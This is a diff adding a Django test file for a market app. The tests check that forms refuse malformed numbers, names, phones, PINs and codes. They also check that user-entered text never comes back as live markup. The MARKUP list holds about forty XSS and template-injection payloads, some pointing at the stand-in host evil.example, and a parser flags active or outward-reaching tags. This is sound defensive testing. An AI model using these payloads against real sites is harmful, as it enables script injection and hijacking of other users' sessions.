@@ -1,0 +1,337 @@
+"""What people type by mistake, and what some type on purpose: a sentence beside the field, never a broken page."""
+
+from collections.abc import Iterator
+from html import escape
+from html.parser import HTMLParser
+from typing import Any
+from uuid import UUID
+
+import pytest
+from django.test import Client
+from django.urls import reverse
+
+from dodolan.kernel.clock import clock_set_to
+from dodolan.market.fulfilment.models import Shift, Weighing
+from dodolan.market.ordering.models import OrderGroup, OrderLine
+from dodolan.market.paying.cash import LARGEST_FLOAT_RP
+from dodolan.market.prices.models import OfferPrice
+from dodolan.market.stalls.models import Offer, Stall
+from dodolan.people.accounts.models import RoleName, User
+from dodolan.people.businesses.models import Business
+from scripts.every_page import FORMS_ONLY
+from tests.factories.days import counted_shift, weighed_order
+from tests.factories.market import (
+    MORNING,
+    by_steps,
+    make_counted_offer,
+    make_day,
+    make_offer,
+    make_order,
+    make_shift,
+    make_slot,
+    make_stall,
+)
+from tests.factories.people import make_market, make_user
+from tests.web.officer.conftest import screen_of
+from tests.web.test_access_matrix import address_of, pages
+
+NUMBERS = ["-5", "1,5", "1.5", "abc", "1" + "0" * 18, "5\0", "\u202e12a", "9" * 5000, "0x10", "\u2460", "1e3"]
+NAMES = ["", "   ", "\0", "a\0b", "\u200b\u202e", "x" * 81, "y" * 5000]
+PHONES = ["", "0", "12", "abc", "0812\0", "+1", "9" * 41, "1" + "0" * 18, "\u202e", "0812 3456"]
+STRANGER = str(UUID(int=7))
+CODES = ["", "12345", "abcdef", "0\0", "9" * 13, "\u202e000000", "-00001", "1" + "0" * 18]
+
+
+def in_short(value: object) -> str:
+    return ascii(value)[:30]
+
+
+@pytest.fixture(autouse=True)
+def _morning() -> Iterator[None]:
+    with clock_set_to(lambda: MORNING):
+        yield
+
+
+@pytest.fixture
+def runner(db: None) -> User:
+    """A runner of a market whose day is open."""
+    market = make_market()
+    make_slot(make_day(market))
+    return make_user("Cak Rudi", RoleName.RUNNER, market=market)
+
+
+def is_refused(response: Any, typed: str) -> None:
+    """A 422 page that keeps what was typed and has a sentence beside the field."""
+    page = response.content.decode()
+    assert response.status_code == 422
+    assert 'class="errors"' in page or 'class="error"' in page
+    assert 'aria-invalid="true"' in page
+    if typed.isprintable() and typed.strip():
+        assert escape(typed) in page
+
+
+@pytest.mark.parametrize("typed", ["", *NUMBERS, str(LARGEST_FLOAT_RP + 1)], ids=in_short)
+def test_a_float_must_be_rupiah(runner: User, typed: str):
+    is_refused(screen_of(runner).post(reverse("web:runner-start"), {"float": typed}), typed)
+    assert not Shift.objects.exists()
+
+
+@pytest.mark.parametrize("typed", ["0", "500000", "Rp 500.000", "\uff15\uff10\uff10"], ids=in_short)
+def test_a_float_may_be_written_in_many_ways(runner: User, typed: str):
+    assert screen_of(runner).post(reverse("web:runner-start"), {"float": typed}).status_code == 302
+    assert Shift.objects.count() == 1
+
+
+@pytest.mark.parametrize("typed", ["", *NUMBERS], ids=in_short)
+def test_counted_cash_must_be_rupiah(db: None, typed: str):
+    make_slot(make_day(make_market()))
+    shift = make_shift()
+    client = screen_of(shift.runner)
+    client.post(reverse("web:runner-end"))
+    is_refused(client.post(reverse("web:cash"), {"counted": typed}), typed)
+    shift.box.refresh_from_db()
+    assert shift.box.counted_at is None
+
+
+@pytest.mark.parametrize("typed", ["", "abcd", "12\0", "\u202e", "1" * 9, "9" * 5000, "-1", "1,5"], ids=in_short)
+def test_a_pin_must_be_the_right_one(db: None, typed: str):
+    group, shift = weighed_order()
+    response = screen_of(shift.runner).post(reverse("web:drop", args=[group.number]), {"pin": typed})
+    is_refused(response, typed)
+    group.refresh_from_db()
+    assert group.delivered_at is None
+
+
+@pytest.mark.parametrize("typed", [*NUMBERS, "9" * 13], ids=in_short)
+def test_a_reading_must_be_whole_grams(db: None, typed: str):
+    offer = make_offer(make_stall())
+    group = make_order(by_steps(offer, 500), by_steps(make_offer(offer.stall, good="Wortel"), 500))
+    shift = make_shift(group)
+    bad, good = OrderLine.objects.filter(order__group=group).order_by("pk")
+    response = screen_of(shift.runner).post(reverse("web:weigh"), {f"g-{bad.pk}": typed, f"g-{good.pk}": "480"})
+    is_refused(response, typed)
+    assert 'value="480"' in response.content.decode()
+    assert not Weighing.objects.exists()
+
+
+@pytest.mark.parametrize("typed", [*NUMBERS, "3"], ids=in_short)
+def test_pieces_are_at_most_what_was_ordered(db: None, typed: str):
+    group = make_order(by_steps(make_counted_offer(make_stall()), 2))
+    line = OrderLine.objects.get(order__group=group)
+    is_refused(screen_of(make_shift(group).runner).post(reverse("web:take"), {f"n-{line.pk}": typed}), typed)
+    line.refresh_from_db()
+    assert line.final_rp is None
+
+
+@pytest.mark.parametrize("name", ["g-x", "n-", "g-" + "9" * 400, f"g-{STRANGER}", "k-1", "stop"], ids=in_short)
+def test_fields_of_nobody_change_nothing(db: None, name: str):
+    group = make_order()
+    client = screen_of(make_shift(group).runner)
+    assert client.post(reverse("web:weigh"), {name: "5"}).status_code in (302, 404)
+    assert client.post(reverse("web:take"), {name: "5"}).status_code in (302, 404)
+    assert not Weighing.objects.exists()
+
+
+@pytest.mark.parametrize("ticked", [[], [""], ["x"], ["\0"], [STRANGER], [STRANGER] * 600], ids=in_short)
+def test_orders_that_are_not_there_cannot_be_taken(db: None, ticked: list[str]):
+    group = make_order()
+    shift = make_shift(day=group.day)
+    response = screen_of(shift.runner).post(reverse("web:runner-take"), {"group": ticked}, follow=True)
+    assert response.status_code in (200, 400)
+    assert 'role="alert"' in response.content.decode() or response.status_code == 400
+    assert not shift.assignments.exists()
+
+
+@pytest.mark.parametrize("typed", [*NUMBERS, "0", "99"], ids=in_short)
+def test_a_price_must_be_rupiah(db: None, typed: str):
+    make_slot(make_day(make_market()))
+    offer = make_offer(make_stall())
+    client = screen_of(offer.stall.business.owner)
+    response = client.post(reverse("web:trader-prices"), {str(offer.pk): typed, "save": ""})
+    assert response.status_code == 422
+    assert 'class="errors"' in response.content.decode()
+    assert OfferPrice.objects.count() == 1
+
+
+@pytest.mark.parametrize("typed", [*NUMBERS[:1], *NUMBERS[3:]], ids=in_short)
+def test_a_count_must_be_an_amount(db: None, typed: str):
+    make_slot(make_day(make_market()))
+    offer = make_counted_offer(make_stall())
+    address = reverse("web:trader-stock", args=[offer.pk])
+    response = screen_of(offer.stall.business.owner).post(address, {"count": typed}, follow=True)
+    assert 'role="alert"' in response.content.decode()
+    assert not offer.stock.filter(on_hand__isnull=False).exists()
+
+
+@pytest.mark.parametrize("typed", NAMES, ids=in_short)
+def test_a_name_must_be_readable(db: None, typed: str):
+    user = make_user("Bu Ani")
+    is_refused(screen_of(user).post(reverse("web:account"), {"name": typed}), typed)
+    user.refresh_from_db()
+    assert user.name == "Bu Ani"
+
+
+@pytest.mark.parametrize("typed", PHONES, ids=in_short)
+def test_a_phone_must_be_one(db: None, typed: str):
+    is_refused(Client().post(reverse("web:sign-in"), {"phone": typed}), typed)
+
+
+@pytest.mark.parametrize("typed", CODES, ids=in_short)
+def test_a_code_must_be_the_right_one(db: None, typed: str):
+    client = Client()
+    client.post(reverse("web:sign-in"), {"phone": "0812 3456 7890"})
+    is_refused(client.post(reverse("web:enter-code"), {"code": typed}), typed)
+    assert "_auth_user_id" not in client.session
+
+
+@pytest.mark.parametrize("field", ["phone", "password", "totp"])
+@pytest.mark.parametrize("typed", ["", "\0", "\u202e", "9" * 5000, "-1"], ids=in_short)
+def test_an_officers_words_are_never_told_apart(db: None, field: str, typed: str):
+    words = {"phone": "0812 3456 7890", "password": "kunci-contoh-7", "totp": "000000", field: typed}
+    response = Client().post(reverse("web:officer-sign-in"), words)
+    assert response.status_code == 422
+    assert "kunci-contoh-7" not in response.content.decode()
+
+
+@pytest.mark.parametrize("language", ["", "xx", "\0", "id" * 4000, "../id"], ids=in_short)
+def test_an_unknown_language_is_no_language(db: None, language: str):
+    response = Client().post(reverse("web:language"), {"language": language, "next": "/cari/"})
+    assert (response.status_code, response["Location"]) == (302, "/cari/")
+    assert "bahasa" not in response.cookies
+
+
+def test_no_form_is_taken_from_another_site(db: None):
+    group, shift = weighed_order()
+    line = OrderLine.objects.select_related("offer__stall").get(order__group=group)
+    words = {"number": group.number, "line": line.pk, "order": line.order_id, "offer": line.offer_id}
+    answers = {}
+    for user in (shift.runner, line.offer.stall.business.owner, make_user("Bu Rini", RoleName.OFFICER)):
+        client = Client(enforce_csrf_checks=True)
+        client.force_login(user)
+        answers |= {pattern.name: client.post(address_of(pattern, words)).status_code for pattern in pages()}
+    assert {name for name, status in answers.items() if status != 403} <= {"orders"}
+    assert set(answers) >= FORMS_ONLY
+
+
+MARKUP = r"""
+<script>alert(1)</script>
+<img src=x onerror=alert(1)>
+<svg onload=alert(1)>
+"><script>alert(1)</script>
+'><script>alert(1)</script>
+</title><script>alert(1)</script>
+<body onload=alert(1)>
+<iframe src=javascript:alert(1)>
+<a href=javascript:alert(1)>x</a>
+javascript:alert(1)
+" onmouseover="alert(1)
+' onfocus='alert(1)' autofocus='
+` onclick=alert(1) `
+<details open ontoggle=alert(1)>
+<input autofocus onfocus=alert(1)>
+<video><source onerror=alert(1)>
+<math><mi xlink:href=javascript:alert(1)>
+<object data=javascript:alert(1)>
+<embed src=javascript:alert(1)>
+<form action=javascript:alert(1)><button>
+<button formaction=javascript:alert(1)>x
+<link rel=stylesheet href=//evil.example>
+<base href=//evil.example/>
+<meta http-equiv=refresh content=0;url=//evil.example>
+<style>*{background:url(//evil.example)}</style>
+<scr<script>ipt>alert(1)</script>
+<SCRIPT SRC=//evil.example/x.js></SCRIPT>
+<script/x>alert(1)</script>
+<<script>alert(1)//<</script>
+<img src=x:alert(1) onerror=eval(src)>
+{{ 7|add:7 }}
+{% debug %}
+${alert(1)}
+--><script>alert(1)</script>
+]]><script>alert(1)</script>
+&lt;script&gt;alert(1)&lt;/script&gt;
+%3Cscript%3Ealert(1)%3C/script%3E
+\u003cscript\u003e
+<xss style=x:expression(alert(1))>
+<a hx-get=//evil.example>x
+""".strip().splitlines()
+LEADS = {"href", "src", "action", "data", "hx-get", "hx-post", "xlink:href"}
+ACTIVE = {"iframe", "object", "embed", "base", "style", "video", "math", "xss", "source"}
+
+
+class Danger(HTMLParser):
+    """Collects what in a page would run or reach out and is not ours."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.found: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        facts = dict(attrs)
+        reaches_out = any((facts.get(name) or "").startswith(("javascript:", "//")) for name in LEADS)
+        runs = any(name.startswith("on") or name == "formaction" for name in facts)
+        own_script = tag == "script" and not str(facts.get("src", "")).startswith("/static/")
+        if tag in ACTIVE or reaches_out or runs or own_script or facts.get("http-equiv"):
+            self.found.append(f"<{tag} {facts}>")
+
+
+@pytest.mark.parametrize("markup", MARKUP)
+def test_what_people_write_is_never_markup(db: None, markup: str):
+    group, shift = weighed_order()
+    write_everywhere(markup)
+    looks = everywhere(group, shift)
+    for client, address in looks:
+        response = client.get(address, follow=True)
+        danger = Danger()
+        danger.feed(response.content.decode())
+        assert response.status_code == 200, address
+        assert danger.found == [], address
+
+
+def write_everywhere(markup: str) -> None:
+    """The same words in every text that people can write."""
+    OrderGroup.objects.update(buyer_name=markup, street=markup, note=markup)
+    OrderLine.objects.update(note=markup, good_name=markup)
+    Offer.objects.update(label=markup[:40])
+    Stall.objects.update(name=markup, place=markup[:40])
+    Business.objects.update(name=markup)
+    User.objects.update(name=markup)
+
+
+def everywhere(group: OrderGroup, shift: Shift) -> list[tuple[Client, str]]:
+    """Who sees those words, and where."""
+    line = OrderLine.objects.select_related("offer__stall__business__owner").get(order__group=group)
+    stall = line.offer.stall
+    runner, trader = screen_of(shift.runner), screen_of(stall.business.owner)
+    desk = screen_of(make_user("Bu Rini", RoleName.OFFICER))
+    slug = group.day.market.slug
+    by_guest = [("market", slug), ("stall", slug, stall.slug), ("offer", slug, line.offer_id), ("search",), ("home",)]
+    by_guest += [("track", group.secret), ("receipt", group.secret)]
+    by_runner = [
+        ("runner",),
+        ("picking",),
+        ("picking-print",),
+        ("drops",),
+        ("drop", group.number),
+        ("cash",),
+        ("account",),
+    ]
+    by_trader = [("trader-orders",), ("trader-prices",), ("trader-money",), ("account",)]
+    by_desk = [("desk",), ("desk-orders",), ("desk-order", group.number), ("desk-runners",), ("desk-register",)]
+    by_desk += [("desk-ledger",), ("desk-trail",), ("desk-stall", stall.pk), ("desk-settlement",)]
+    looks = ((Client(), by_guest), (runner, by_runner), (trader, by_trader), (desk, by_desk))
+    return [(client, reverse(f"web:{name}", args=args)) for client, rows in looks for name, *args in rows]
+
+
+def test_markup_that_is_searched_for_or_typed_comes_back_as_text(db: None):
+    make_slot(make_day(make_market()))
+    counted_shift()
+    for markup in MARKUP:
+        for response in (
+            Client().get(reverse("web:search"), {"q": markup}),
+            Client().post(reverse("web:sign-in"), {"phone": markup[:40], "next": markup}),
+        ):
+            danger = Danger()
+            danger.feed(response.content.decode())
+            assert danger.found == []
+            assert response.status_code < 500
